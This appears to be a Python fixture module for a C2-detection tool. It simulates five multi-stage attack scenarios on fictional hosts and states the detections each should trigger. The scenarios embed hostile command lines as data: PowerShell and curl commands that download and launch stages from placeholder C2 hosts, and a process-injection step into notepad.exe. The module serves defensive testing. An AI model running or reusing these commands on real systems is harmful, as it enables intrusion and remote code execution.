"""The seed's five tests ("Testing Methodology"), each reaching C2 addresses A and B."""

from __future__ import annotations

from stagehunt.simulate.host import Machine, after
from stagehunt.simulate.model import BASE, EXPLORER, Expected, Scenario, desktop, events_of, host_in_url

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
NOTEPAD = r"C:\Windows\System32\notepad.exe"

# -- the seed's five tests ----------------------------------------------------------------------------------

def two_stage_powershell(a: str, b: str) -> Scenario:
    t = after(BASE, 0)
    m = Machine("WKS-0142.acme.local", "10.20.4.37")
    shell = desktop(m, r"ACME\m.fischer", after(t, -3600), 5412)
    cmd = (f'"{PS}" -NoProfile -ExecutionPolicy Bypass -Command "$s1 = Invoke-WebRequest -UseBasicParsing '
           f"http://{host_in_url(a)}:8080/stage1; Start-Sleep -Seconds 60; $s2 = Invoke-WebRequest -UseBasicParsing "
           f'http://{host_in_url(b)}:8081/stage2"')
    ps = m.start(t, shell, PS, 7316, cmd)
    m.connect(after(t, 1.6), ps, a, 8080)
    m.connect(after(t, 1.9), ps, a, 8080)
    m.connect(after(t, 63.2), ps, b, 8081)
    return Scenario(
        "two-stage-powershell", "Two-stage PowerShell C2 from one process", "attack", "windows",
        "seed Testing Methodology, test 1",
        "powershell.exe fetches stage 1 from A:8080 and, a minute later, stage 2 from B:8081 in the same "
        "process (the seed's 127.0.0.1:8080/8081 with real addresses, as the seed asks for a lab).",
        events_of(m), (Expected("multi_stage_c2", PS, EXPLORER),), (PS,), c2=(a, b))


def staged_dropper(a: str, b: str) -> Scenario:
    t = after(BASE, 3600)
    m = Machine("WKS-0207.acme.local", "10.20.6.112")
    shell = desktop(m, r"ACME\j.okafor", after(t, -5400), 4980)
    temp = r"C:\Users\j.okafor\AppData\Local\Temp"
    stage2 = rf"{temp}\stage2_test.exe"
    cmd = (f'"{PS}" -NoProfile -WindowStyle Hidden -Command "Invoke-WebRequest '
           f"-Uri http://{host_in_url(a)}/stage2_test.exe "
           '-OutFile $env:TEMP\\stage2_test.exe; Start-Process $env:TEMP\\stage2_test.exe"')
    ps = m.start(t, shell, PS, 6120, cmd)
    m.connect(after(t, 1.2), ps, a, 80)
    m.write(after(t, 2.4), ps, stage2)
    s2 = m.start(after(t, 3.1), ps, stage2, 3904, f'"{stage2}"', cwd=temp + "\\")
    for k in range(3):  # a beacon every 30 s
        m.connect(after(t, 4.0 + 30 * k), s2, b, 443)
    return Scenario(
        "staged-dropper", "First-stage downloader drops and starts a second-stage binary", "attack", "windows",
        "seed Testing Methodology, test 2",
        r"powershell.exe downloads from A:80, writes %TEMP%\stage2_test.exe (event 11), starts it (event 1, "
        "parent powershell.exe) and the new process beacons to B:443, an address its writer never reached.",
        events_of(m), (Expected("staged_dropper", stage2, PS), Expected("parent_child_handoff", stage2, PS)),
        (PS, stage2), c2=(a, b))


def socks_first_stage(a: str, b: str) -> Scenario:
    t = after(BASE, 2 * 3600)
    m = Machine("WKS-0311.acme.local", "10.20.9.54")
    shell = desktop(m, r"ACME\r.lindqvist", after(t, -7200), 6024)
    cmd = (f'"{PS}" -NoProfile -Command "$p = New-Object Net.Sockets.TcpClient(\'{a}\', 1080); '
           f"$q = New-Object Net.Sockets.TcpClient('{a}', 1913); "
           f"$r = New-Object Net.Sockets.TcpClient('{b}', 81)\"")
    ps = m.start(t, shell, PS, 4488, cmd)
    m.connect(after(t, 0.8), ps, a, 1080)  # SOCKS5 proxy
    m.connect(after(t, 1.1), ps, a, 1913)  # APT3's SOCKS5 first-stage port
    m.connect(after(t, 95.4), ps, b, 81)  # second stage, APT3's second IP on TCP/81
    return Scenario(
        "socks5-first-stage", "SOCKS5 proxy first stage, then a second stage", "attack", "windows",
        "seed Testing Methodology, test 3 (APT3 Operation Double Tap)",
        "powershell.exe opens SOCKS5 connections to A on TCP/1080 and TCP/1913 (APT3's first-stage port), "
        "then reaches the second stage at B on TCP/81; the proxy ports raise the confidence.",
        events_of(m), (Expected("multi_stage_c2", PS, EXPLORER, confidence="high",
                            reason="proxy/SOCKS first-stage port"),), (PS,), c2=(a, b))


def linux_curl_chain(a: str, b: str) -> Scenario:
    t = after(BASE, 3 * 3600)
    m = Machine("web01", "172.31.60.25", linux=True, ip6="2600:1f18:4a3:6901:8c1b:2e4f:91d0:7a35")
    sshd = m.existing("/usr/sbin/sshd", 1822, "sshd: deploy [priv]", "root", after(t, -600), cwd="/")
    bash = m.start(after(t, -240), sshd, "/usr/bin/bash", 1847, "-bash", user="deploy", cwd="/home/deploy")
    url1, url2 = f"http://{host_in_url(a)}:8080/stage1.sh", f"https://{host_in_url(b)}/stage2"
    c1 = m.start(t, bash, "/usr/bin/curl", 1903, f"curl -s -o /tmp/stage1.sh {url1}")
    m.connect(after(t, 0.05), c1, a, 8080)
    m.write(after(t, 0.31), c1, "/tmp/stage1.sh")
    c2 = m.start(after(t, 184), bash, "/usr/bin/curl", 1911, f"curl -sk -o /tmp/stage2 {url2}")
    m.connect(after(t, 184.06), c2, b, 443)
    m.write(after(t, 184.52), c2, "/tmp/stage2")
    return Scenario(
        "linux-curl-chain", "Multi-stage C2 via a chain of curl stages (Linux)", "attack", "linux",
        "seed Testing Methodology, test 4",
        "An interactive bash runs curl twice: stage 1 from A:8080 and, three minutes later, stage 2 from "
        "B:443, each saved under /tmp. Each curl reaches one address; the chain under one shell reaches two.",
        events_of(m), (Expected("sibling_chain", "/usr/bin/curl", "/usr/bin/bash"),),
        ("/usr/bin/bash", "/usr/bin/curl"), c2=(a, b))


def injected_stage(a: str, b: str) -> Scenario:
    t = after(BASE, 4 * 3600)
    m = Machine("WKS-0415.acme.local", "10.20.11.8")
    shell = desktop(m, r"ACME\s.haddad", after(t, -9000), 4120)
    notepad = m.start(after(t, -1500), shell, NOTEPAD, 8812, f'"{NOTEPAD}"')
    cmd = (f'"{PS}" -NoProfile -ExecutionPolicy Bypass -Command "$s = (New-Object Net.WebClient).DownloadData('
           f"'https://{host_in_url(a)}/s.bin'); $h = [Win32]::OpenProcess(0x1F0FFF, $false, 8812)\"")
    ps = m.start(t, shell, PS, 9020, cmd)
    m.connect(after(t, 1.4), ps, a, 443)
    trace = (r"C:\Windows\SYSTEM32\ntdll.dll+9d4c4|C:\Windows\System32\KERNELBASE.dll+2c13e|"
             r"UNKNOWN(00007FFB1C2A4F1E)|UNKNOWN(00007FFB1C2A3B02)")
    m.open_process(after(t, 6.2), ps, notepad, "0x1FFFFF", trace)  # PROCESS_ALL_ACCESS
    m.connect(after(t, 9.8), notepad, b, 9002)
    m.connect(after(t, 69.8), notepad, b, 9002)
    return Scenario(
        "injected-stage", "Process injection into notepad.exe, then a new channel from it (Lazarus pattern)",
        "attack", "windows", "seed Testing Methodology, test 5",
        "powershell.exe reaches A:443, opens the user's running notepad.exe with PROCESS_ALL_ACCESS (event "
        "10), and notepad.exe then connects to B:9002, an address neither had reached.",
        events_of(m), (Expected("injected_stage", NOTEPAD, PS),), (PS, NOTEPAD), c2=(a, b))


